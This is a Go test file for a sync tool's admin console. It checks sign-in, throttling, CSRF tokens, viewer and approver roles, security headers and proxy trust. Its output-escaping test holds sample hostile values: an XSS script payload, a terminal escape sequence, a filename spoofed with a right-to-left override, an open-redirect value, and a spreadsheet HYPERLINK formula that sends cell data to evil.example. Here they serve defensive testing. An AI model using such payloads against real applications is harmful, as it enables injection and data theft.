package console_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/usersync/syncer/internal/console"
	"github.com/usersync/syncer/internal/reverse"
	"github.com/usersync/syncer/internal/store"
)

// pagesOf are the console's pages that need a session.
func pagesOf(f *fixture) []string {
	return []string{"/console/", "/console/runs", "/console/runs?pipeline=nightly", "/console/runs/" + itoa(f.runIDs[3]),
		"/console/feeds", "/console/plans", "/console/plans/" + f.parked}
}

func itoa(n int64) string { return strconv.FormatInt(n, 10) }

func newServer(t *testing.T, h http.Handler) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return srv
}

func TestEveryPageAndActionNeedsASession(t *testing.T) {
	t.Parallel()
	f := newFixture(t, console.Config{}, false)
	b := f.browser(t)
	for _, p := range pagesOf(f) {
		a := b.get(p)
		if a.code != http.StatusOK || !strings.Contains(a.url, "/console/login?next=") || !strings.Contains(a.body, `name="password"`) {
			t.Errorf("GET %s without a session: %d at %s; want the sign-in page", p, a.code, a.url)
		}
		if strings.Contains(a.body, "Leaver One") || strings.Contains(a.body, "Sign out") || strings.Contains(a.body, "<table") {
			t.Errorf("GET %s without a session shows data", p)
		}
	}
	for _, p := range []string{"/console/plans/" + f.parked + "/approve", "/console/plans/" + f.parked + "/reject", "/console/logout"} {
		if a := b.post(p, url.Values{"reason": {"x"}}); a.code != http.StatusUnauthorized {
			t.Errorf("POST %s without a session = %d, want 401", p, a.code)
		}
	}
	if s := f.approvalStatus(t, f.parked); s != store.ApprovalAwaiting {
		t.Errorf("plan %s is %s after requests without a session", f.parked, s)
	}
	if a := b.get("/console/static/style.css"); a.code != http.StatusOK || !strings.HasPrefix(a.resp.Header.Get("Content-Type"), "text/css") {
		t.Errorf("style sheet = %d %s", a.code, a.resp.Header.Get("Content-Type"))
	}
}

func TestSignInAndOut(t *testing.T) {
	t.Parallel()
	f := newFixture(t, console.Config{}, false)
	b := f.browser(t)
	for _, tc := range []struct{ name, password string }{{"vera", "wrong-password-99"}, {"nobody", viewerPassword}, {"", ""}, {"<b>", "x"}} {
		a := b.signIn(tc.name, tc.password)
		if a.code != http.StatusUnauthorized || !strings.Contains(a.body, "The name or the password is wrong.") {
			t.Errorf("sign-in %q/%q = %d, want 401 with the same message for every case", tc.name, tc.password, a.code)
		}
	}
	a := b.signIn("vera", viewerPassword)
	if a.code != http.StatusOK || !strings.HasSuffix(a.url, "/console/") || !strings.Contains(a.body, "vera") || !strings.Contains(a.body, "viewer") {
		t.Fatalf("sign-in = %d at %s", a.code, a.url)
	}
	for _, p := range pagesOf(f) {
		if a := b.get(p); a.code != http.StatusOK || strings.Contains(a.url, "/login") {
			t.Errorf("GET %s signed in = %d at %s", p, a.code, a.url)
		}
	}
	// The sign-in page, signed in, leads on; next never leaves the console.
	if a := b.get("/console/login?next=//evil.example/x"); !strings.HasSuffix(a.url, "/console/") {
		t.Errorf("sign-in page with next=//evil.example led to %s", a.url)
	}
	out := b.post("/console/logout", url.Values{"csrf": {csrf(t, a)}})
	if !strings.Contains(out.url, "/console/login?signed_out=1") || !strings.Contains(out.body, "You are signed out.") {
		t.Errorf("sign-out = %d at %s", out.code, out.url)
	}
	if a := b.get("/console/"); !strings.Contains(a.url, "/console/login") {
		t.Errorf("after sign-out, /console/ = %s; want the sign-in page", a.url)
	}
}

func TestSignInIsThrottledAfterFailures(t *testing.T) {
	t.Parallel()
	f := newFixture(t, console.Config{}, false)
	b := f.browser(t)
	for range 5 {
		b.signIn("ana", "not-the-password")
	}
	if a := b.signIn("ana", approverPassword); a.code != http.StatusTooManyRequests {
		t.Fatalf("the right password after 5 failures = %d, want 429 (throttled)", a.code)
	}
	if a := f.browser(t).signIn("vera", viewerPassword); a.code != http.StatusOK {
		t.Errorf("another name while ana is throttled = %d, want 200", a.code)
	}
	f.now.Add(31 * time.Second)
	if a := b.signIn("ana", approverPassword); a.code != http.StatusOK {
		t.Errorf("the right password after the lockout = %d, want 200:\n%s", a.code, a.body)
	}
}

func TestSignInFormNeedsItsToken(t *testing.T) {
	t.Parallel()
	f := newFixture(t, console.Config{}, false)
	b := f.browser(t)
	// No token (a form posted from elsewhere never has the cookie's).
	a := b.post("/console/login", url.Values{"name": {"ana"}, "password": {approverPassword}})
	if a.code != http.StatusForbidden {
		t.Errorf("sign-in without the token = %d, want 403", a.code)
	}
	page := b.get("/console/login")
	a = b.post("/console/login", url.Values{"csrf": {csrf(t, page)}, "name": {"ana"}, "password": {approverPassword}}, "Sec-Fetch-Site", "cross-site")
	if a.code != http.StatusForbidden {
		t.Errorf("a cross-site sign-in = %d, want 403", a.code)
	}
	if a := b.get("/console/"); !strings.Contains(a.url, "/console/login") {
		t.Error("a refused sign-in signed in")
	}
}

func TestViewerCannotApprove(t *testing.T) {
	t.Parallel()
	f, b := signedIn(t, "vera", viewerPassword)
	page := b.get("/console/plans/" + f.parked)
	if page.code != http.StatusOK || strings.Contains(page.body, "/approve") || strings.Contains(page.body, "/reject") ||
		!strings.Contains(page.body, "Only an approver can approve or reject this plan") {
		t.Fatalf("a viewer's plan page (%d) offers a decision or does not say why not:\n%s", page.code, page.body)
	}
	for _, action := range []string{"approve", "reject"} {
		a := b.post("/console/plans/"+f.parked+"/"+action, url.Values{"csrf": {csrf(t, page)}, "reason": {"let me"}})
		if a.code != http.StatusForbidden || !strings.Contains(a.body, "Only an approver can do this") {
			t.Errorf("viewer POST %s = %d, want 403", action, a.code)
		}
	}
	if s := f.approvalStatus(t, f.parked); s != store.ApprovalAwaiting {
		t.Errorf("plan is %s after a viewer's attempts, want awaiting_approval", s)
	}
	if tr := f.triggers.list(); len(tr) != 0 {
		t.Errorf("a viewer's attempt triggered %v", tr)
	}
}

func TestApproverApprovesAndRejects(t *testing.T) {
	t.Parallel()
	f, b := signedIn(t, "ana", approverPassword)
	page := b.get("/console/plans/" + f.parked)
	if !strings.Contains(page.body, `action="/console/plans/`+f.parked+`/approve"`) {
		t.Fatalf("an approver's page of a parked plan has no approve form:\n%s", page.body)
	}
	a := b.post("/console/plans/"+f.parked+"/approve", url.Values{"csrf": {csrf(t, page)}, "reason": {"checked with HR"}})
	if a.code != http.StatusOK || !strings.Contains(a.url, "done=approved") || !strings.Contains(a.body, "Approved by") || !strings.Contains(a.body, "checked with HR") {
		t.Fatalf("approve = %d at %s:\n%s", a.code, a.url, a.body)
	}
	if s := f.approvalStatus(t, f.parked); s != store.ApprovalApproved {
		t.Errorf("plan is %s after approval, want approved", s)
	}
	d, err := reverse.NewApprovals(f.st).PlanDetail(context.Background(), f.parked)
	if err != nil || d.Decision == nil || d.Decision.By != "ana" || d.Decision.Reason != "checked with HR" {
		t.Errorf("journaled decision = %+v, %v; want ana's, with her reason", d, err)
	}
	if tr := f.triggers.list(); !slices.Equal(tr, []string{"feed:hr"}) {
		t.Errorf("triggered %v, want the feed's job feed:hr (it applies the approved plan)", tr)
	}
	// A second decision is refused, naming the one that stands.
	again := b.post("/console/plans/"+f.parked+"/reject", url.Values{"csrf": {csrf(t, page)}, "reason": {"changed my mind"}})
	if again.code != http.StatusConflict || !strings.Contains(again.body, "approved") {
		t.Errorf("rejecting an approved plan = %d:\n%s", again.code, again.body)
	}

	other := b.get("/console/plans/" + f.other)
	if a := b.post("/console/plans/"+f.other+"/reject", url.Values{"csrf": {csrf(t, other)}}); a.code != http.StatusBadRequest {
		t.Errorf("reject without a reason = %d, want 400", a.code)
	}
	a = b.post("/console/plans/"+f.other+"/reject", url.Values{"csrf": {csrf(t, other)}, "reason": {"the export is truncated"}})
	if a.code != http.StatusOK || !strings.Contains(a.body, "Rejected: it will not be applied.") {
		t.Errorf("reject = %d at %s", a.code, a.url)
	}
	if s := f.approvalStatus(t, f.other); s != store.ApprovalRejected {
		t.Errorf("plan is %s after rejection, want rejected", s)
	}
	if a := b.post("/console/plans/plan-none/approve", url.Values{"csrf": {csrf(t, other)}}); a.code != http.StatusNotFound {
		t.Errorf("approve an unknown plan = %d, want 404", a.code)
	}
}

func TestStateChangesNeedTheCSRFToken(t *testing.T) {
	t.Parallel()
	f, b := signedIn(t, "ana", approverPassword)
	page := b.get("/console/plans/" + f.parked)
	token := csrf(t, page)
	for name, tc := range map[string]struct {
		form   url.Values
		header []string
	}{
		"no token":    {url.Values{"reason": {"x"}}, nil},
		"wrong token": {url.Values{"csrf": {token[:len(token)-2] + "xx"}, "reason": {"x"}}, nil},
		"cross-site":  {url.Values{"csrf": {token}, "reason": {"x"}}, []string{"Sec-Fetch-Site", "cross-site"}},
		"other origin": {url.Values{"csrf": {token}, "reason": {"x"}},
			[]string{"Sec-Fetch-Site", "", "Origin", "http://evil.example"}},
	} {
		a := b.post("/console/plans/"+f.parked+"/approve", tc.form, tc.header...)
		if a.code != http.StatusForbidden {
			t.Errorf("%s: approve = %d, want 403", name, a.code)
		}
	}
	// Another session's token is no good either.
	o := f.browser(t)
	o.signIn("ana", approverPassword)
	if a := o.post("/console/plans/"+f.parked+"/approve", url.Values{"csrf": {token}}); a.code != http.StatusForbidden {
		t.Errorf("approve with another session's token = %d, want 403", a.code)
	}
	if a := b.post("/console/logout", url.Values{}); a.code != http.StatusForbidden {
		t.Errorf("sign-out without the token = %d, want 403", a.code)
	}
	if s := f.approvalStatus(t, f.parked); s != store.ApprovalAwaiting {
		t.Errorf("plan is %s after refused requests, want awaiting_approval", s)
	}
}

func TestHostileValuesRenderAsText(t *testing.T) {
	t.Parallel()
	f, b := signedIn(t, "ana", approverPassword)
	seen := map[string]bool{}
	for _, p := range append(pagesOf(f), "/console/runs/"+itoa(f.runIDs[len(f.runIDs)-1]+1), "/console/runs?pipeline="+url.QueryEscape(scriptName)) {
		a := b.get(p)
		if a.code != http.StatusOK {
			t.Errorf("GET %s = %d", p, a.code)
			continue
		}
		for _, raw := range []string{"<script", "\x1b", "\u202e", "\r"} {
			if strings.Contains(a.body, raw) {
				t.Errorf("GET %s: the page holds %q raw", p, raw)
			}
		}
		for _, shown := range []string{"&lt;script&gt;alert(&#34;pwned&#34;)&lt;/script&gt;", `Eve\x1b[2K\rFAKE LINE`, `Mallory \u202egnp.exe`, "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;Click&#34;)"} {
			if strings.Contains(a.body, shown) {
				seen[shown] = true
			}
		}
	}
	for _, shown := range []string{"&lt;script&gt;alert(&#34;pwned&#34;)&lt;/script&gt;", `Eve\x1b[2K\rFAKE LINE`, `Mallory \u202egnp.exe`, "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1,&#34;Click&#34;)"} {
		if !seen[shown] {
			t.Errorf("no page shows %s: the hostile values are not on the pages this test reads", shown)
		}
	}
}

func TestSecurityHeadersAndCookies(t *testing.T) {
	t.Parallel()
	for _, tls := range []bool{false, true} {
		f := newFixture(t, console.Config{}, tls)
		b := f.browser(t)
		h := b.signIn("vera", viewerPassword).resp.Header
		if csp := h.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "script-src") {
			t.Errorf("Content-Security-Policy = %q; want no script source at all", csp)
		}
		if h.Get("X-Frame-Options") != "DENY" || h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Cache-Control") != "no-store" {
			t.Errorf("headers = %v", h)
		}
		set := signInCookies(t, f)
		want := "syncer_console"
		if tls {
			want = "__Host-syncer_console"
		}
		c := set[want]
		if c == nil {
			t.Fatalf("tls %v: sign-in set %v, want a cookie %s", tls, keys(set), want)
		}
		if !c.HttpOnly || c.SameSite != http.SameSiteStrictMode || c.Secure != tls || c.Path != "/" || len(c.Value) < 40 {
			t.Errorf("tls %v: session cookie = %+v; want HttpOnly, SameSite=Strict, Secure only over TLS, a long random value", tls, c)
		}
	}
}

func keys(m map[string]*http.Cookie) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

// signInCookies signs in as vera with redirects off and returns the
// cookies the answer sets.
func signInCookies(t *testing.T, f *fixture) map[string]*http.Cookie {
	t.Helper()
	b := f.browser(t)
	b.c.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	page := b.get("/console/login")
	a := b.post("/console/login", url.Values{"csrf": {csrf(t, page)}, "name": {"vera"}, "password": {viewerPassword}})
	if a.code != http.StatusSeeOther {
		t.Fatalf("sign-in = %d, want 303", a.code)
	}
	out := map[string]*http.Cookie{}
	for _, c := range a.resp.Cookies() {
		out[c.Name] = c
	}
	return out
}

func TestSessionsExpire(t *testing.T) {
	t.Parallel()
	f := newFixture(t, console.Config{SessionIdle: 10 * time.Minute, SessionMax: time.Hour}, false)
	b := f.browser(t)
	b.signIn("vera", viewerPassword)
	// Used every 9 minutes, it lives until SessionMax.
	for range 6 {
		f.now.Add(9 * time.Minute)
		if a := b.get("/console/runs"); strings.Contains(a.url, "/login") {
			t.Fatalf("session ended after %s of use every 9 minutes, before the hour", "54m")
		}
	}
	f.now.Add(7 * time.Minute)
	if a := b.get("/console/runs"); !strings.Contains(a.url, "/login") {
		t.Error("session still alive past SessionMax")
	}
	b.signIn("vera", viewerPassword)
	f.now.Add(11 * time.Minute)
	if a := b.get("/console/runs"); !strings.Contains(a.url, "/login") {
		t.Error("session still alive after 11 minutes idle (SessionIdle 10m)")
	}
}

func TestTrustedProxyHeader(t *testing.T) {
	t.Parallel()
	loopback := netip.MustParsePrefix("127.0.0.0/8")
	f := newFixture(t, console.Config{ProxyUserHeader: "X-Forwarded-User", TrustedProxies: []netip.Prefix{loopback}, ProxyApprovers: []string{"boss@example.com"}}, false)
	b := f.browser(t)
	req, _ := http.NewRequest(http.MethodGet, f.srv.URL+"/console/plans/"+f.parked, nil)
	req.Header.Set("X-Forwarded-User", "clerk@example.com")
	a := b.do(req)
	if a.code != http.StatusOK || !strings.Contains(a.body, "clerk@example.com") || strings.Contains(a.body, "/approve") {
		t.Errorf("proxy user clerk = %d; want signed in as a viewer", a.code)
	}
	boss := f.browser(t)
	req, _ = http.NewRequest(http.MethodGet, f.srv.URL+"/console/plans/"+f.parked, nil)
	req.Header.Set("X-Forwarded-User", "boss@example.com")
	a = boss.do(req)
	if !strings.Contains(a.body, "/approve") {
		t.Errorf("proxy approver's plan page has no approve form")
	}
	// The proxy stops vouching (the header is gone): the session ends.
	if a := boss.get("/console/plans"); !strings.Contains(a.url, "/login") {
		t.Errorf("a proxy session without the header = %s; want the sign-in page", a.url)
	}

	// From an address that is not the proxy's, the header means nothing.
	g := newFixture(t, console.Config{ProxyUserHeader: "X-Forwarded-User", TrustedProxies: []netip.Prefix{netip.MustParsePrefix("10.9.9.9/32")}}, false)
	req, _ = http.NewRequest(http.MethodGet, g.srv.URL+"/console/", nil)
	req.Header.Set("X-Forwarded-User", "ana")
	if a := g.browser(t).do(req); !strings.Contains(a.url, "/login") {
		t.Errorf("the header from an untrusted address signed in (%s)", a.url)
	}
	if _, err := console.New(console.Config{ProxyUserHeader: "X-Forwarded-User"}, console.Source{}); err == nil {
		t.Error("New accepted a proxy header without trusted proxies")
	}
}

func TestPagesBeforeTheDatabaseIsReady(t *testing.T) {
	t.Parallel()
	con, err := console.New(console.Config{Accounts: []console.Account{{Name: "vera", Role: console.RoleViewer, Hash: hash(t, viewerPassword)}}},
		console.Source{Store: func() *store.Store { return nil }})
	if err != nil {
		t.Fatal(err)
	}
	f := &fixture{}
	f.srv = newServer(t, con)
	b := f.browser(t)
	b.signIn("vera", viewerPassword)
	for _, p := range []string{"/console/", "/console/runs", "/console/feeds", "/console/plans", "/console/plans/x", "/console/runs/1"} {
		if a := b.get(p); a.code != http.StatusServiceUnavailable || !strings.Contains(a.body, "not ready yet") {
			t.Errorf("GET %s before ready = %d", p, a.code)
		}
	}
}

func TestNoSecretOnAnyPage(t *testing.T) {
	t.Parallel()
	f := newFixture(t, console.Config{}, false)
	b := f.browser(t)
	a := b.signIn("ana", approverPassword)
	bodies := []string{a.body}
	for _, p := range pagesOf(f) {
		bodies = append(bodies, b.get(p).body)
	}
	for _, acc := range []string{viewerPassword, approverPassword, "$2a$", "$2b$"} {
		for i, body := range bodies {
			if strings.Contains(body, acc) {
				t.Errorf("page %d shows %q", i, acc)
			}
		}
	}
}

func TestAccounts(t *testing.T) {
	t.Parallel()
	h := string(hash(t, "some-long-password"))
	got, err := console.ParseAccounts(strings.NewReader("# accounts\nana:approver:"+h+"\n vera:viewer:"+h+" , ops:viewer:"+h+"  # night shift\n"), "SYNCER_CONSOLE_ACCOUNTS")
	if err != nil || len(got) != 3 || got[0].Name != "ana" || got[0].Role != console.RoleApprover || got[2].Name != "ops" {
		t.Fatalf("ParseAccounts = %+v, %v", got, err)
	}
	for _, tc := range []struct{ in, want string }{
		{"ana:approver:hunter2hunter2", "SYNCER_CONSOLE_ACCOUNTS line 1: account ana: the part after the role is not a bcrypt hash"},
		{"ana:admin:" + h, "line 1: account ana: the role must be viewer or approver"},
		{"\nana", "line 2: not an account"},
		{"ana:viewer:" + h + "\nana:approver:" + h, "line 2: account ana is listed twice"},
		{"<script>:viewer:" + h, "line 1: the name is not valid"},
	} {
		_, err := console.ParseAccounts(strings.NewReader(tc.in), "SYNCER_CONSOLE_ACCOUNTS")
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%q: %v, want %q", tc.in, err, tc.want)
			continue
		}
		if strings.Contains(err.Error(), "hunter2") || strings.Contains(err.Error(), h) {
			t.Errorf("%q: the error repeats the secret: %v", tc.in, err)
		}
	}
	if _, err := console.HashPassword("short"); err == nil {
		t.Error("HashPassword accepted a 5-character password")
	}
}

// Accounts come from the environment and a secrets file together; a name
// in both, or a file that cannot be read, is an error naming the place and
// never the hash.
func TestLoadAccounts(t *testing.T) {
	t.Parallel()
	h := string(hash(t, "another-long-password"))
	file := filepath.Join(t.TempDir(), "console-accounts")
	if err := os.WriteFile(file, []byte("vera:viewer:"+h+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	got, err := console.LoadAccounts("ACCTS", "ana:approver:"+h, file)
	if err != nil || len(got) != 2 || got[0].Name != "ana" || got[1].Name != "vera" {
		t.Fatalf("LoadAccounts = %+v, %v", got, err)
	}
	for _, tc := range []struct{ env, file, want string }{
		{"vera:approver:" + h, file, file + ": account vera is also in the environment variable ACCTS"},
		{"", filepath.Join(t.TempDir(), "missing"), "serve.console.accounts_file: open "},
	} {
		_, err := console.LoadAccounts("ACCTS", tc.env, tc.file)
		if err == nil || !strings.Contains(err.Error(), tc.want) || strings.Contains(err.Error(), h) {
			t.Errorf("LoadAccounts(%q) = %v, want %q without the hash", tc.file, err, tc.want)
		}
	}
}
